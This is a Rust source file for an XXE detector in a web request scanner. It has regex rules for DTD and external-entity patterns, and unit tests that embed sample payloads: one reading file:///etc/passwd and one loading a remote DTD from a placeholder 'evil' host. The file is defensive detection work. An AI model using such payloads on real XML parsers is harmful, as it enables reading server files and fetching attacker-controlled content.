use async_trait::async_trait;
use once_cell::sync::Lazy;

use crate::config::ScannerConfig;
use crate::core::http::{HttpRequest, RequestContext};
use crate::detectors::patterns::{scan_request, PatternRule, ScanOptions};
use crate::detectors::{AttackType, Detector, DetectorResult, Evidence, Severity};
use crate::utils::sanitize;

pub const DETECTOR_NAME: &str = "xxe";
pub const DEFAULT_PRIORITY: u8 = 90;

static RULES: Lazy<Vec<PatternRule>> = Lazy::new(|| {
    vec![
        PatternRule::new(
            r"(?is)<!DOCTYPE\s+[^>]*\[\s*<!ENTITY",
            "inline DTD with entity",
            0.98,
            Severity::Critical,
        ),
        PatternRule::new(
            r"(?is)<!ENTITY\s+\S+\s+SYSTEM\s+['\x22]",
            "external system entity",
            0.98,
            Severity::Critical,
        ),
        PatternRule::new(
            r"(?is)<!ENTITY\s+%\s*\S+",
            "parameter entity",
            0.95,
            Severity::High,
        ),
        PatternRule::new(
            r"(?i)SYSTEM\s+['\x22]file://",
            "file entity target",
            0.98,
            Severity::Critical,
        ),
        PatternRule::new(
            r"(?i)SYSTEM\s+['\x22]https?://",
            "remote entity target",
            0.9,
            Severity::High,
        ),
        PatternRule::new(
            r"(?is)<!DOCTYPE\s+\S+\s+PUBLIC\b",
            "public doctype override",
            0.7,
            Severity::Medium,
        ),
        PatternRule::new(
            r"(?i)&\w+;\s*</",
            "entity expansion in element",
            0.5,
            Severity::Low,
        ),
    ]
});

fn prefilter(value: &str) -> bool {
    let lowered = value.to_ascii_lowercase();
    value.contains("<!")
        || (value.contains('&') && lowered.contains("entity"))
        || lowered.contains("system")
}

/// Pattern scanner for XML external entity payloads.
pub struct XxeDetector {
    options: ScanOptions,
    priority: u8,
    enabled: bool,
    base_confidence: Option<f64>,
}

impl XxeDetector {
    pub fn new(config: &ScannerConfig) -> Self {
        Self {
            options: ScanOptions {
                exclude_fields: config.exclude_fields.clone(),
                header_allowlist: config.header_allowlist.clone(),
                ..Default::default()
            },
            priority: config.priority.unwrap_or(DEFAULT_PRIORITY),
            enabled: config.enabled,
            base_confidence: config.base_confidence,
        }
    }
}

impl Default for XxeDetector {
    fn default() -> Self {
        Self::new(&ScannerConfig::default())
    }
}

#[async_trait]
impl Detector for XxeDetector {
    fn name(&self) -> &str {
        DETECTOR_NAME
    }

    fn priority(&self) -> u8 {
        self.priority
    }

    fn enabled(&self) -> bool {
        self.enabled
    }

    async fn detect_request(
        &self,
        request: &HttpRequest,
        _context: &RequestContext,
    ) -> Option<DetectorResult> {
        let hit = scan_request(request, &RULES, &self.options, &prefilter)?;
        let confidence = self.base_confidence.unwrap_or(hit.rule.confidence);
        Some(
            DetectorResult::new(AttackType::Xxe, hit.rule.severity, confidence).with_evidence(
                Evidence {
                    field: hit.field,
                    value: sanitize::evidence_value(&hit.value),
                    pattern: hit.rule.description.to_string(),
                    raw_content: Some(sanitize::raw_content(&hit.value)),
                },
            ),
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    async fn detect(request: HttpRequest) -> Option<DetectorResult> {
        XxeDetector::default()
            .detect_request(&request, &RequestContext::new())
            .await
    }

    #[tokio::test]
    async fn doctype_with_system_entity() {
        let body = serde_json::json!({
            "xml": "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>"
        });
        let result = detect(HttpRequest::post("/import").with_json_body(&body))
            .await
            .unwrap();
        assert_eq!(result.attack_type, AttackType::Xxe);
        assert_eq!(result.severity, Severity::Critical);
    }

    #[tokio::test]
    async fn parameter_entity_in_query() {
        let result = detect(HttpRequest::get(
            "/parse?doc=%3C!ENTITY%20%25%20remote%20SYSTEM%20%22http%3A%2F%2Fevil%2Fdtd%22%3E",
        ))
        .await;
        assert!(result.is_some());
    }

    #[tokio::test]
    async fn plain_xml_without_dtd_passes() {
        let body = serde_json::json!({"xml": "<order><id>5</id></order>"});
        assert!(detect(HttpRequest::post("/import").with_json_body(&body))
            .await
            .is_none());
    }
}
